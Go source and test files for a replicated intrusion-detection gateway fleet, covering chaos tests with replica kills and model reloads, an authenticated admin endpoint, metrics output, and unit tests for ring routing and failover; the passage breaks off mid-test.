// partial-commit rollback. The fleet must answer every request with
// exactly the verdicts the single instance produced, no request may
// observe a mixed-generation fleet, and same-seed fleet runs must emit
// bit-identical transcripts.
//
// The determinism argument: requests are driven sequentially, the fleet
// never re-dispatches a request that produced a verdict, and a dead
// replica fails before any upstream contact — so every request reaches
// the shared upstream exactly once in both runs, the faultify schedule (a
// pure function of seed, request key, and per-key attempt) unfolds
// identically, and the verdict sequences match element for element. The
// upstream breaker is disabled on every gateway in both runs because its
// state is fed by upstream contacts per gateway: one gateway seeing all
// 200 contacts and three gateways seeing a third each would diverge — the
// one piece of single-instance state that cannot be sharded and compared.
// Production fleets keep it on; this suite trades it for an exact oracle.
//
// No test sleeps on the wall clock: the front's backoff Sleep is a
// counter, and upstream Hang faults resolve through the gateway's 150ms
// upstream deadline (the convention set by the crawl and gateway chaos
// suites).

import (
	"fmt"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"

	"psigene/internal/attackgen"
	"psigene/internal/core"
	"psigene/internal/faultify"
	"psigene/internal/gateway"
	"psigene/internal/ids"
	"psigene/internal/traffic"
	"psigene/internal/webapp"
)

// chaosWorkload is the fixed mixed stream: sqlmap-style injections plus
// benign browsing, as proxy targets, with a rotating caller pool so the
// ring actually spreads the load.
func chaosWorkload(n int) (targets, remotes []string) {
	reqs := attackgen.NewGenerator(attackgen.SQLMapProfile(), 21).Requests(n / 2)
	reqs = append(reqs, traffic.NewGenerator(22).Requests(n-n/2)...)
	targets = make([]string, len(reqs))
	remotes = make([]string, len(reqs))
	for i, r := range reqs {
		targets[i] = r.URL()
		remotes[i] = fmt.Sprintf("203.0.113.%d:4000", i%40)
	}
	return targets, remotes
}

// chaosUpstream wraps the demo webapp in a fault injector at the given
// total rate, spread uniformly over all fault classes.
func chaosUpstream(seed int64, rate float64) *httptest.Server {
	in := faultify.New(faultify.Config{Seed: seed, Rates: faultify.Uniform(rate)})
	return httptest.NewServer(in.Wrap(webapp.New(50)))
}

// allowedStatuses is every verdict the fleet may hand a client under
// chaos — the gateway's set; the fleet adds nothing because unavailable
// (fleet 503) must never fire in this suite.
var allowedStatuses = map[int]bool{
	200: true, 404: true, 429: true, 403: true,
	500: true, 502: true, 503: true, 504: true,
}

// Two trained models with package-test lifetime (the same pattern as the
// gateway suite): the reload fanout must swap between genuinely different
// artifacts, or the no-mixed-generation assertion would be vacuous.
var (
	modelsOnce sync.Once
	modelsDir  string
	modelsErr  error
)

func trainedModelPair(t *testing.T) (pathA, pathB string) {
	t.Helper()
	modelsOnce.Do(func() {
		dir, err := os.MkdirTemp("", "fleet-models-")
		if err != nil {
			modelsErr = err
			return
		}
		modelsDir = dir
		for _, m := range []struct {
			name                string
			attackSeed, webSeed int64
		}{
			{"modelA.json", 11, 12},
			{"modelB.json", 13, 14},
		} {
			attacks := attackgen.NewGenerator(attackgen.CrawlProfile(), m.attackSeed).Requests(800)
			benign := traffic.NewGenerator(m.webSeed).Requests(1000)
			model, err := core.Train(attacks, benign, core.Config{})
			if err != nil {
				modelsErr = err
				return
			}
			if err := model.SaveFile(filepath.Join(dir, m.name)); err != nil {
				modelsErr = err
				return
			}
		}
	})
	if modelsErr != nil {
		t.Fatalf("training models: %v", modelsErr)
	}
	return filepath.Join(modelsDir, "modelA.json"), filepath.Join(modelsDir, "modelB.json")
}

func TestMain(m *testing.M) {
	code := m.Run()
	if modelsDir != "" {
		os.RemoveAll(modelsDir)
	}
	os.Exit(code)
}

// chaosGatewayOptions: short upstream deadline so Hang faults resolve in
// milliseconds, breaker off for the exact parity oracle (see the file
// comment), model identity tagged so X-Psigene-Gen carries version+hash.
func chaosGatewayOptions(man core.Manifest) gateway.Options {
	return gateway.Options{
		UpstreamTimeout: 150 * time.Millisecond,
		DisableBreaker:  true,
		ModelVersion:    man.Version,
		ModelSHA256:     man.ModelSHA256,
	}
}

// modelTag extracts the "version sha256:hash" identity from an
// X-Psigene-Gen header, dropping the replica-local generation number —
// replica generations legitimately diverge after a rollback (commit+undo
// advances the counter twice), but the identity must stay uniform.
func modelTag(genHeader string) string {
	_, tag, ok := strings.Cut(genHeader, " ")
	if !ok {
		return ""
	}
	return tag
}

const (
	chaosRequests  = 200
	killAt         = 40  // replica 1 dies mid-storm
	probeFailAt    = 60  // coordinated reload with one forced probe failure
	reviveAt       = 70  // replica 1 comes back; readmission is earned later
	reloadAt       = 100 // the successful A->B fanout, in both runs
	commitFailAt   = 130 // fanout with one forced commit failure -> rollback
	chaosFaultRate = 0.20
	chaosUpSeed    = 99
)

// runSingleInstance drives the workload through one gateway, reloading
// A->B at reloadAt, and returns the status verdicts.
func runSingleInstance(t *testing.T, targets, remotes []string, pathA, pathB string) []int {
	t.Helper()
	srv := chaosUpstream(chaosUpSeed, chaosFaultRate)
	defer srv.Close()
	det, man, err := core.LoadAny(pathA)
	if err != nil {
		t.Fatalf("load model A: %v", err)
	}
	g, err := gateway.New(srv.URL, det, chaosGatewayOptions(man))
	if err != nil {
		t.Fatalf("gateway.New: %v", err)
	}
	codes := make([]int, len(targets))
	for i := range targets {
		if i == reloadAt {
			if _, err := g.ReloadModel(pathB); err != nil {
				t.Fatalf("single-instance reload: %v", err)
			}
		}
		w := getFrom(g, remotes[i], targets[i])
		if !allowedStatuses[w.Code] {
			t.Fatalf("single run request %d: status %d", i, w.Code)
		}
		codes[i] = w.Code
	}
	return codes
}

// fleetChaosResult is one fleet storm's full observable output.
type fleetChaosResult struct {
	codes      []int
	transcript string
	snap       FleetSnapshot
	sleeps     int
}

// runFleet drives the identical workload through a 3-replica fleet with
// the kill/revive/reload schedule applied at fixed request indices.
func runFleet(t *testing.T, targets, remotes []string, pathA, pathB string) fleetChaosResult {
	t.Helper()
	srv := chaosUpstream(chaosUpSeed, chaosFaultRate)
	defer srv.Close()

	const replicas = 3
	gws := make([]*gateway.Gateway, replicas)
	for i := range gws {
		det, man, err := core.LoadAny(pathA)
		if err != nil {
			t.Fatalf("load model A for replica %d: %v", i, err)
		}
		gws[i], err = gateway.New(srv.URL, det, chaosGatewayOptions(man))
		if err != nil {
			t.Fatalf("gateway.New replica %d: %v", i, err)
		}
	}

	// The forced-failure seams are armed per event through these slots.
	var probeFailReplica, commitFailReplica = -1, -1
	ns := &noSleep{}
	f, err := New(gws, Options{
		Seed:             77,
		BreakerThreshold: 2,
		BreakerCooldown:  4,
		ProbeEvery:       16,
		Sleep:            ns.fn,
		ProbeHook: func(rep int, _ ids.Detector) error {
			if rep == probeFailReplica {
				return fmt.Errorf("forced probe failure on replica %d", rep)
			}
			return nil
		},
		CommitHook: func(rep int) error {
			if rep == commitFailReplica {
				return fmt.Errorf("forced commit failure on replica %d", rep)
			}
			return nil
		},
	})
	if err != nil {
		t.Fatalf("fleet.New: %v", err)
	}

	var lines []string
	codes := make([]int, len(targets))
	tagA, tagB := "", ""
	for i := range targets {
		switch i {
		case killAt:
			if err := f.Kill(1); err != nil {
				t.Fatal(err)
			}
		case probeFailAt:
			// A fanout where one replica cannot validate the candidate:
			// nobody swaps, the storm continues on model A.
			probeFailReplica = 0
			if _, err := f.ReloadAll(pathB); err == nil {
				t.Fatalf("request %d: forced probe failure did not reject the fanout", i)
			}
			probeFailReplica = -1
		case reviveAt:
			if err := f.Revive(1); err != nil {
				t.Fatal(err)
			}
		case reloadAt:
			if _, err := f.ReloadAll(pathB); err != nil {
				t.Fatalf("request %d: coordinated reload: %v", i, err)
			}
		case commitFailAt:
			// A fanout that fails partway through commit: the committed
			// replicas roll back, the fleet stays uniform on model B.
			commitFailReplica = 2
			if _, err := f.ReloadAll(pathA); err == nil {
				t.Fatalf("request %d: forced commit failure did not reject the fanout", i)
			}
			commitFailReplica = -1
		}

		w := getFrom(f, remotes[i], targets[i])
		if !allowedStatuses[w.Code] {
			t.Fatalf("fleet request %d: status %d", i, w.Code)
		}
		codes[i] = w.Code

		// No request may observe a mixed-generation fleet: before the
		// successful fanout every verdict is stamped with model A's
		// identity, after it with model B's — forced-failure fanouts
		// included, since they either swap nothing or roll back whole.
		tag := modelTag(w.Header().Get("X-Psigene-Gen"))
		if tag == "" {
			t.Fatalf("fleet request %d: no model identity on verdict", i)
		}
		if i == 0 {
			tagA = tag
		}
		if i == reloadAt {
			tagB = tag
			if tagB == tagA {
				t.Fatalf("reload fanout did not change the serving model identity: %q", tag)
			}
		}
		want := tagA
		if i >= reloadAt {
			want = tagB
		}
		if tag != want {
			t.Fatalf("fleet request %d served by model %q, want %q: mixed generation observed", i, tag, want)
		}

		lines = append(lines, fmt.Sprintf("%03d %d %s | %s", i, w.Code,
			w.Header().Get("X-Psigene-Fleet"), w.Header().Get("X-Psigene-Gen")))
	}

	snap := f.Snapshot()
	if snap.MixedModel {
		t.Fatal("fleet ended mixed-model")
	}
	return fleetChaosResult{
		codes:      codes,
		transcript: strings.Join(lines, "\n"),
		snap:       snap,
		sleeps:     ns.n,
	}
}

// TestFleetChaosStorm is the headline acceptance test: under the seeded
// fault storm with a replica killed/ejected/readmitted and three reload
// fanouts (one rejected at probe, one committed, one rolled back), the
// fleet's verdicts equal the single-instance run element for element —
// and therefore as a multiset — and same-seed fleet runs produce
// bit-identical transcripts.
func TestFleetChaosStorm(t *testing.T) {
	pathA, pathB := trainedModelPair(t)
	targets, remotes := chaosWorkload(chaosRequests)

	single := runSingleInstance(t, targets, remotes, pathA, pathB)
	res := runFleet(t, targets, remotes, pathA, pathB)

	for i := range single {
		if single[i] != res.codes[i] {
			t.Fatalf("request %d (%s): fleet verdict %d, single-instance %d",
				i, targets[i], res.codes[i], single[i])
		}
	}

	// The storm must actually have exercised the machinery it claims to.
	snap := res.snap
	if snap.Unavailable != 0 {
		t.Fatalf("%d requests found no replica; the failover path is leaking work", snap.Unavailable)
	}
	if snap.Failovers == 0 {
		t.Fatal("no failovers: the kill window never rerouted a request")
	}
	if res.sleeps != int(snap.Failovers) {
		t.Fatalf("backoff count %d != failovers %d", res.sleeps, snap.Failovers)
	}
	if snap.ProbeSweeps == 0 {
		t.Fatal("active health probes never ran")
	}
	killed := snap.ReplicaStates[1]
	if killed.Ejections == 0 {
		t.Fatal("killed replica was never ejected")
	}
	if killed.Readmissions == 0 {
		t.Fatal("revived replica was never readmitted")
	}
	if snap.Reloads != 1 || snap.ReloadFailures != 2 || snap.Rollbacks != 1 {
		t.Fatalf("reload mix not exercised: reloads=%d failures=%d rollbacks=%d",
			snap.Reloads, snap.ReloadFailures, snap.Rollbacks)
	}
	if snap.RollbackFailures != 0 {
		t.Fatalf("%d replicas stranded by failed rollbacks", snap.RollbackFailures)
	}
	if snap.Generation != 2 {
		t.Fatalf("fleet generation %d, want 2 (one successful fanout)", snap.Generation)
	}
	var servedTotal int64
	for _, r := range snap.ReplicaStates {
		servedTotal += r.Served
	}
	if servedTotal != int64(len(targets)) {
		t.Fatalf("replicas served %d requests, want %d", servedTotal, len(targets))
	}
	t.Logf("storm: failovers=%d ejections=%d readmissions=%d sweeps=%d",
		snap.Failovers, killed.Ejections, killed.Readmissions, snap.ProbeSweeps)

	// Same seed, same storm: the full transcript — status, serving
	// replica, fleet generation, model identity — is bit-identical.
	again := runFleet(t, targets, remotes, pathA, pathB)
	if res.transcript != again.transcript {
		t.Fatal("same-seed fleet runs diverged; transcripts differ")
	}
}

// TestFleetChaosSpreadsLoad pins the ring's purpose: under the healthy
// portion of the storm every replica serves a real share of the traffic,
// so the fleet is a fleet and not a primary with warm spares.
func TestFleetChaosSpreadsLoad(t *testing.T) {
	pathA, pathB := trainedModelPair(t)
	targets, remotes := chaosWorkload(chaosRequests)
	res := runFleet(t, targets, remotes, pathA, pathB)
	for _, r := range res.snap.ReplicaStates {
		if r.Served < chaosRequests/10 {
			t.Fatalf("replica %d served only %d/%d requests: %+v",
				r.ID, r.Served, chaosRequests, res.snap.ReplicaStates)
		}
	}
}
