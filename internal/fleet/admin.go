package fleet

import (
	"crypto/subtle"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"path/filepath"

	"psigene/internal/gateway"
	"psigene/internal/resilience"
)

// ReplicaSnapshot is one replica's row in the fleet /-/statz document:
// the fleet-side health state plus the replica's own gateway snapshot,
// so a half-ejected or mixed-generation fleet is visible in one read.
type ReplicaSnapshot struct {
	ID           int                        `json:"id"`
	Down         bool                       `json:"down"`
	Breaker      resilience.BreakerSnapshot `json:"breaker"`
	Served       int64                      `json:"served"`
	Failures     int64                      `json:"failures"`
	Ejections    int64                      `json:"ejections"`
	Readmissions int64                      `json:"readmissions"`
	Generation   uint64                     `json:"generation"`
	ModelVersion string                     `json:"modelVersion,omitempty"`
	ModelSHA256  string                     `json:"modelSha256,omitempty"`
	Gateway      gateway.Snapshot           `json:"gateway"`
}

// FleetSnapshot is the front's /-/statz document: fleet-level counters
// merged with every replica's snapshot.
type FleetSnapshot struct {
	Replicas   int    `json:"replicas"`
	Generation uint64 `json:"generation"`
	// MixedModel is true when replicas disagree on the serving model's
	// (version, hash) identity. The two-phase reload exists to keep this
	// permanently false; it is surfaced so a violation screams rather
	// than hides.
	MixedModel       bool              `json:"mixedModel"`
	Total            int64             `json:"total"`
	Failovers        int64             `json:"failovers"`
	Unavailable      int64             `json:"unavailable"`
	ProbeSweeps      int64             `json:"probeSweeps"`
	Reloads          int64             `json:"reloads"`
	ReloadFailures   int64             `json:"reloadFailures"`
	Rollbacks        int64             `json:"rollbacks"`
	RollbackFailures int64             `json:"rollbackFailures"`
	ReplicaStates    []ReplicaSnapshot `json:"replicaStates"`
}

// Snapshot assembles the fleet stats document.
func (f *Front) Snapshot() FleetSnapshot {
	s := FleetSnapshot{
		Replicas:         len(f.replicas),
		Generation:       f.gen.Load(),
		Total:            f.stats.total.Load(),
		Failovers:        f.stats.failovers.Load(),
		Unavailable:      f.stats.unavailable.Load(),
		ProbeSweeps:      f.stats.probeSweeps.Load(),
		Reloads:          f.stats.reloads.Load(),
		ReloadFailures:   f.stats.reloadFailures.Load(),
		Rollbacks:        f.stats.rollbacks.Load(),
		RollbackFailures: f.stats.rollbackFailures.Load(),
		ReplicaStates:    make([]ReplicaSnapshot, 0, len(f.replicas)),
	}
	var version0, hash0 string
	for i, rep := range f.replicas {
		gs := rep.gw.Snapshot()
		if i == 0 {
			version0, hash0 = gs.ModelVersion, gs.ModelSHA256
		} else if gs.ModelVersion != version0 || gs.ModelSHA256 != hash0 {
			s.MixedModel = true
		}
		s.ReplicaStates = append(s.ReplicaStates, ReplicaSnapshot{
			ID:           rep.id,
			Down:         rep.down.Load(),
			Breaker:      rep.breakerState(),
			Served:       rep.served.Load(),
			Failures:     rep.failures.Load(),
			Ejections:    rep.ejections.Load(),
			Readmissions: rep.readmissions.Load(),
			Generation:   gs.Generation,
			ModelVersion: gs.ModelVersion,
			ModelSHA256:  gs.ModelSHA256,
			Gateway:      gs,
		})
	}
	return s
}

// AdminConfig configures the fleet control surface, mirroring the
// single-gateway gateway.AdminConfig: bearer token compared in constant
// time, reloads confined to names inside ModelDir, loader errors logged
// rather than echoed.
type AdminConfig struct {
	// Token, when non-empty, is required as `Authorization: Bearer
	// <token>` on every admin request.
	Token string
	// ModelDir confines POST /-/reload's ?path= parameter to local names
	// inside this directory. Empty disables reload entirely.
	ModelDir string
	// Log receives reload failure detail; the HTTP responses stay
	// generic so the endpoint is not a file-existence or parse oracle.
	// Default io.Discard.
	Log io.Writer
}

// Admin returns the fleet's /-/ control surface: healthz, readyz, the
// merged statz/metrics, and the coordinated POST /-/reload. Like the
// gateway's, it is meant for its own loopback listener, never the data
// path.
func (f *Front) Admin(cfg AdminConfig) http.Handler {
	if cfg.Log == nil {
		cfg.Log = io.Discard
	}
	return &adminHandler{f: f, cfg: cfg}
}

type adminHandler struct {
	f   *Front
	cfg AdminConfig
}

func (h *adminHandler) ServeHTTP(w http.ResponseWriter, r *http.Request) {
	if h.cfg.Token != "" && !h.authorized(r) {
		w.Header().Set("WWW-Authenticate", `Bearer realm="psigened fleet admin"`)
		http.Error(w, "unauthorized", http.StatusUnauthorized)
		return
	}
	switch r.URL.Path {
	case "/-/healthz":
		// Liveness: the front is up and serving this handler.
		w.WriteHeader(http.StatusOK)
		fmt.Fprintln(w, "ok")
	case "/-/readyz":
		// Readiness: the fleet can serve as long as any replica can.
		h.serveReadyz(w)
	case "/-/statz":
		writeJSON(w, h.f.Snapshot())
	case "/-/metrics":
		w.Header().Set("Content-Type", "text/plain; version=0.0.4")
		writeFleetMetrics(w, h.f.Snapshot())
	case "/-/reload":
		h.serveReload(w, r)
	default:
		http.NotFound(w, r)
	}
}

// authorized checks the bearer token in constant time.
func (h *adminHandler) authorized(r *http.Request) bool {
	const prefix = "Bearer "
	auth := r.Header.Get("Authorization")
	if len(auth) <= len(prefix) || auth[:len(prefix)] != prefix {
		return false
	}
	return subtle.ConstantTimeCompare([]byte(auth[len(prefix):]), []byte(h.cfg.Token)) == 1
}

func (h *adminHandler) serveReadyz(w http.ResponseWriter) {
	for _, rep := range h.f.replicas {
		if !rep.down.Load() && rep.gw.Ready() {
			w.WriteHeader(http.StatusOK)
			fmt.Fprintln(w, "ready")
			return
		}
	}
	http.Error(w, "no replica ready", http.StatusServiceUnavailable)
}

// serveReload runs the coordinated two-phase reload fleet-wide, with the
// same confinement and oracle-avoidance discipline as the single-gateway
// endpoint: ?path= is a local name inside ModelDir, and failure detail
// goes to the admin log only.
func (h *adminHandler) serveReload(w http.ResponseWriter, r *http.Request) {
	if r.Method != http.MethodPost {
		http.Error(w, "POST required", http.StatusMethodNotAllowed)
		return
	}
	if h.cfg.ModelDir == "" {
		http.Error(w, "reload disabled: no model dir configured", http.StatusForbidden)
		return
	}
	name := r.URL.Query().Get("path")
	if name == "" {
		http.Error(w, "reload needs ?path=<name>", http.StatusBadRequest)
		return
	}
	if !filepath.IsLocal(name) {
		http.Error(w, "reload path must be a local name inside the model dir", http.StatusBadRequest)
		return
	}
	gen, err := h.f.ReloadAll(filepath.Join(h.cfg.ModelDir, name))
	if err != nil {
		fmt.Fprintf(h.cfg.Log, "psigened: fleet reload %q: %v\n", name, err)
		http.Error(w, "reload rejected; previous model still serving fleet-wide (see server log)", http.StatusInternalServerError)
		return
	}
	writeJSON(w, map[string]any{"fleetGeneration": gen, "replicas": len(h.f.replicas)})
}

// writeFleetMetrics renders a FleetSnapshot in the Prometheus text
// exposition format. Fleet-level counters are psigened_fleet_*; the
// per-replica health series carry a replica label so a half-ejected fleet
// shows up as a labeled family, not a hidden aggregate.
func writeFleetMetrics(w io.Writer, s FleetSnapshot) {
	counter := func(name, help string, v int64) {
		fmt.Fprintf(w, "# HELP %s %s\n# TYPE %s counter\n%s %d\n", name, help, name, name, v)
	}
	gauge := func(name, help string, v float64) {
		fmt.Fprintf(w, "# HELP %s %s\n# TYPE %s gauge\n%s %g\n", name, help, name, name, v)
	}

	counter("psigened_fleet_requests_total", "Requests received by the fleet front.", s.Total)
	counter("psigened_fleet_failovers_total", "Requests retried on the next ring replica after a clean failure.", s.Failovers)
	counter("psigened_fleet_unavailable_total", "Requests shed because no replica could serve them.", s.Unavailable)
	counter("psigened_fleet_probe_sweeps_total", "Active health-probe sweeps across the fleet.", s.ProbeSweeps)
	counter("psigened_fleet_reloads_total", "Successful coordinated model reloads.", s.Reloads)
	counter("psigened_fleet_reload_failures_total", "Rejected coordinated reloads (probe or commit phase).", s.ReloadFailures)
	counter("psigened_fleet_rollbacks_total", "Partial commit failures rolled back to the previous model.", s.Rollbacks)
	counter("psigened_fleet_rollback_failures_total", "Replicas ejected because their rollback failed.", s.RollbackFailures)
	gauge("psigened_fleet_replicas", "Configured fleet size.", float64(s.Replicas))
	gauge("psigened_fleet_generation", "Fleet generation: 1 at start, +1 per successful coordinated reload.", float64(s.Generation))
	mixed := 0.0
	if s.MixedModel {
		mixed = 1
	}
	gauge("psigened_fleet_mixed_model", "1 if replicas disagree on the serving model identity (must stay 0).", mixed)

	// Per-replica labeled series.
	fmt.Fprintf(w, "# HELP psigened_fleet_replica_breaker_state Replica health breaker: 0 closed, 1 open (ejected), 2 half-open.\n# TYPE psigened_fleet_replica_breaker_state gauge\n")
	for _, r := range s.ReplicaStates {
		fmt.Fprintf(w, "psigened_fleet_replica_breaker_state{replica=\"%d\"} %d\n", r.ID, int(r.Breaker.State))
	}
	fmt.Fprintf(w, "# HELP psigened_fleet_replica_down 1 while the replica is killed or stranded, 0 otherwise.\n# TYPE psigened_fleet_replica_down gauge\n")
	for _, r := range s.ReplicaStates {
		down := 0
		if r.Down {
			down = 1
		}
		fmt.Fprintf(w, "psigened_fleet_replica_down{replica=\"%d\"} %d\n", r.ID, down)
	}
	fmt.Fprintf(w, "# HELP psigened_fleet_replica_served_total Requests served by each replica.\n# TYPE psigened_fleet_replica_served_total counter\n")
	for _, r := range s.ReplicaStates {
		fmt.Fprintf(w, "psigened_fleet_replica_served_total{replica=\"%d\"} %d\n", r.ID, r.Served)
	}
	fmt.Fprintf(w, "# HELP psigened_fleet_replica_failures_total Dispatch failures per replica.\n# TYPE psigened_fleet_replica_failures_total counter\n")
	for _, r := range s.ReplicaStates {
		fmt.Fprintf(w, "psigened_fleet_replica_failures_total{replica=\"%d\"} %d\n", r.ID, r.Failures)
	}
	fmt.Fprintf(w, "# HELP psigened_fleet_replica_ejections_total Breaker trips per replica.\n# TYPE psigened_fleet_replica_ejections_total counter\n")
	for _, r := range s.ReplicaStates {
		fmt.Fprintf(w, "psigened_fleet_replica_ejections_total{replica=\"%d\"} %d\n", r.ID, r.Ejections)
	}
	fmt.Fprintf(w, "# HELP psigened_fleet_replica_readmissions_total Half-open probes that readmitted a replica.\n# TYPE psigened_fleet_replica_readmissions_total counter\n")
	for _, r := range s.ReplicaStates {
		fmt.Fprintf(w, "psigened_fleet_replica_readmissions_total{replica=\"%d\"} %d\n", r.ID, r.Readmissions)
	}
	fmt.Fprintf(w, "# HELP psigened_fleet_replica_generation Each replica's own detector swap generation.\n# TYPE psigened_fleet_replica_generation gauge\n")
	for _, r := range s.ReplicaStates {
		fmt.Fprintf(w, "psigened_fleet_replica_generation{replica=\"%d\"} %d\n", r.ID, r.Generation)
	}
	fmt.Fprintf(w, "# HELP psigened_fleet_replica_model_info Serving model identity per replica.\n# TYPE psigened_fleet_replica_model_info gauge\n")
	for _, r := range s.ReplicaStates {
		fmt.Fprintf(w, "psigened_fleet_replica_model_info{replica=\"%d\",version=%q,sha256=%q} 1\n", r.ID, r.ModelVersion, r.ModelSHA256)
	}
}

func writeJSON(w http.ResponseWriter, v any) {
	w.Header().Set("Content-Type", "application/json")
	enc := json.NewEncoder(w)
	enc.SetIndent("", "  ")
	_ = enc.Encode(v)
}
