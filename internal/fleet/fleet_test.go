package fleet

import (
	"context"
	"encoding/json"
	"fmt"
	"net/http"
	"net/http/httptest"
	"strings"
	"sync"
	"testing"
	"time"

	"psigene/internal/gateway"
	"psigene/internal/httpx"
	"psigene/internal/ids"
	"psigene/internal/resilience"
)

// stubBackend is a scriptable replica for unit tests: serve behavior,
// probe and swap failures are all injectable, and every committed swap is
// recorded so the two-phase reload tests can assert exactly who swapped
// to what in which order.
type stubBackend struct {
	id    int
	ready bool

	mu      sync.Mutex
	version string
	hash    string
	gen     uint64
	swaps   []string // versions committed, rollbacks included

	probeErr error
	// swapHook, when non-nil, can veto a SwapTagged by the version being
	// installed — fine-grained enough to fail a rollback but not the
	// original commit.
	swapHook func(version string) error
	serve    func(w http.ResponseWriter, r *http.Request)
	drained  bool
}

func newStub(id int) *stubBackend {
	return &stubBackend{id: id, ready: true, version: "vA", hash: "hashA", gen: 1}
}

func (s *stubBackend) ServeHTTP(w http.ResponseWriter, r *http.Request) {
	if s.serve != nil {
		s.serve(w, r)
		return
	}
	w.WriteHeader(http.StatusOK)
	fmt.Fprintf(w, "replica-%d", s.id)
}

func (s *stubBackend) Ready() bool { return s.ready }

func (s *stubBackend) ServingModel() (ids.Detector, uint64, string, string) {
	s.mu.Lock()
	defer s.mu.Unlock()
	return stubDetector{}, s.gen, s.version, s.hash
}

func (s *stubBackend) ProbeDetector(ids.Detector) error { return s.probeErr }

func (s *stubBackend) SwapTagged(det ids.Detector, version, hash string) (uint64, error) {
	if s.swapHook != nil {
		if err := s.swapHook(version); err != nil {
			return 0, err
		}
	}
	s.mu.Lock()
	defer s.mu.Unlock()
	s.version, s.hash = version, hash
	s.gen++
	s.swaps = append(s.swaps, version)
	return s.gen, nil
}

func (s *stubBackend) Snapshot() gateway.Snapshot {
	s.mu.Lock()
	defer s.mu.Unlock()
	return gateway.Snapshot{Generation: s.gen, ModelVersion: s.version, ModelSHA256: s.hash}
}

func (s *stubBackend) Drain(context.Context) error {
	s.drained = true
	return nil
}

// stubDetector is a trivially valid detector for reload plumbing.
type stubDetector struct{}

func (stubDetector) Name() string                      { return "stub" }
func (stubDetector) Inspect(httpx.Request) ids.Verdict { return ids.Verdict{} }

// noSleep counts backoff invocations without touching the wall clock.
type noSleep struct{ n int }

func (s *noSleep) fn(time.Duration) { s.n++ }

// testFront builds a front over n stubs with active probing off and
// injected sleep, tuned for fast ejection cycles.
func testFront(n int, opts Options) (*Front, []*stubBackend, *noSleep) {
	stubs := make([]*stubBackend, n)
	backends := make([]backend, n)
	for i := range stubs {
		stubs[i] = newStub(i)
		backends[i] = stubs[i]
	}
	ns := &noSleep{}
	if opts.Sleep == nil {
		opts.Sleep = ns.fn
	}
	if opts.ProbeEvery == 0 {
		opts.ProbeEvery = -1 // unit tests drive probes explicitly
	}
	return newFront(backends, opts), stubs, ns
}

func getFrom(h http.Handler, remote, target string) *httptest.ResponseRecorder {
	w := httptest.NewRecorder()
	r := httptest.NewRequest(http.MethodGet, target, nil)
	r.RemoteAddr = remote
	h.ServeHTTP(w, r)
	return w
}

// homeOf returns the ring's full preference order for a caller key.
func homeOf(f *Front, key string) []int {
	return f.ring.walk(resilience.HashKey(f.opts.Seed, key), make([]int, 0, len(f.replicas)))
}

func TestNewValidation(t *testing.T) {
	if _, err := New(nil, Options{}); err == nil {
		t.Fatal("empty fleet must be rejected")
	}
	if _, err := New([]*gateway.Gateway{nil}, Options{}); err == nil {
		t.Fatal("nil replica must be rejected")
	}
}

func TestRingDeterministicAndComplete(t *testing.T) {
	a := buildRing(7, 5, 32)
	b := buildRing(7, 5, 32)
	if len(a.points) != 5*32 || len(b.points) != len(a.points) {
		t.Fatalf("ring sizes: %d vs %d", len(a.points), len(b.points))
	}
	homes := map[int]int{}
	for i := 0; i < 200; i++ {
		key := fmt.Sprintf("caller-%d", i)
		wa := a.walk(resilience.HashKey(7, key), nil)
		wb := b.walk(resilience.HashKey(7, key), nil)
		if len(wa) != 5 {
			t.Fatalf("walk for %q covers %d replicas, want 5", key, len(wa))
		}
		seen := map[int]bool{}
		for j, id := range wa {
			if id != wb[j] {
				t.Fatalf("walk for %q differs across identical rings", key)
			}
			if seen[id] {
				t.Fatalf("walk for %q repeats replica %d", key, id)
			}
			seen[id] = true
		}
		homes[wa[0]]++
	}
	// Virtual nodes must spread ownership: every replica is home for a
	// reasonable share of 200 callers.
	for id := 0; id < 5; id++ {
		if homes[id] < 10 {
			t.Fatalf("replica %d is home for only %d/200 callers: %v", id, homes[id], homes)
		}
	}
}

func TestRoutingIsCallerAffine(t *testing.T) {
	f, _, _ := testFront(3, Options{Seed: 9})
	for caller := 0; caller < 10; caller++ {
		remote := fmt.Sprintf("203.0.113.%d:4000", caller)
		want := homeOf(f, fmt.Sprintf("203.0.113.%d", caller))[0]
		for i := 0; i < 3; i++ {
			w := getFrom(f, remote, "/p?id=1")
			if w.Code != http.StatusOK {
				t.Fatalf("caller %d: status %d", caller, w.Code)
			}
			if got := w.Body.String(); got != fmt.Sprintf("replica-%d", want) {
				t.Fatalf("caller %d served by %q, want replica-%d", caller, got, want)
			}
			if hdr := w.Header().Get("X-Psigene-Fleet"); hdr != fmt.Sprintf("%d 1", want) {
				t.Fatalf("caller %d fleet header %q", caller, hdr)
			}
		}
	}
}

func TestFailoverOnDeadReplica(t *testing.T) {
	f, _, ns := testFront(3, Options{Seed: 9})
	order := homeOf(f, "203.0.113.1")
	if err := f.Kill(order[0]); err != nil {
		t.Fatal(err)
	}

	w := getFrom(f, "203.0.113.1:4000", "/p?id=1")
	if w.Code != http.StatusOK {
		t.Fatalf("failover status %d", w.Code)
	}
	if got, want := w.Body.String(), fmt.Sprintf("replica-%d", order[1]); got != want {
		t.Fatalf("served by %q, want %q", got, want)
	}
	if f.stats.failovers.Load() != 1 {
		t.Fatalf("failovers %d, want 1", f.stats.failovers.Load())
	}
	if ns.n != 1 {
		t.Fatalf("backoff slept %d times, want 1", ns.n)
	}
	if f.replicas[order[0]].failures.Load() != 1 {
		t.Fatal("dead replica's failure not counted")
	}
}

func TestPanicBeforeWriteFailsOver(t *testing.T) {
	f, stubs, _ := testFront(3, Options{Seed: 9})
	order := homeOf(f, "203.0.113.1")
	stubs[order[0]].serve = func(http.ResponseWriter, *http.Request) { panic("replica wedged") }

	w := getFrom(f, "203.0.113.1:4000", "/p?id=1")
	if w.Code != http.StatusOK || w.Body.String() != fmt.Sprintf("replica-%d", order[1]) {
		t.Fatalf("panic-before-write not failed over: %d %q", w.Code, w.Body.String())
	}
	if f.stats.failovers.Load() != 1 {
		t.Fatalf("failovers %d, want 1", f.stats.failovers.Load())
	}
}

func TestPanicAfterWriteIsNeverRetried(t *testing.T) {
	f, stubs, ns := testFront(3, Options{Seed: 9})
	order := homeOf(f, "203.0.113.1")
	stubs[order[0]].serve = func(w http.ResponseWriter, _ *http.Request) {
		w.WriteHeader(http.StatusOK)
		fmt.Fprint(w, "partial")
		panic("died mid-body")
	}

	w := getFrom(f, "203.0.113.1:4000", "/p?id=1")
	// The truncated response stands; no second replica runs the request.
	if got := w.Body.String(); got != "partial" {
